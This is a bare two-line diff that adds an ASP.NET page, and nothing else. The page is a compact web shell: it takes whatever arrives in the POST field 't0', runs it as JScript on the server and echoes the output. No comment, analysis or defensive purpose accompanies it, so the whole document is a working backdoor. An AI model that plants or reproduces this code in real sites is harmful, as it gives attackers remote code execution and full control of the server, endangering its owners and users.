@@ -1,0 +1,2 @@
+<%@ Page Language="C#" %>
+<% Response.Write(Microsoft.JScript.Eval.JScriptEvaluate(Request.Form["t0"], Microsoft.JScript.Vsa.VsaEngine.CreateEngine())); %>
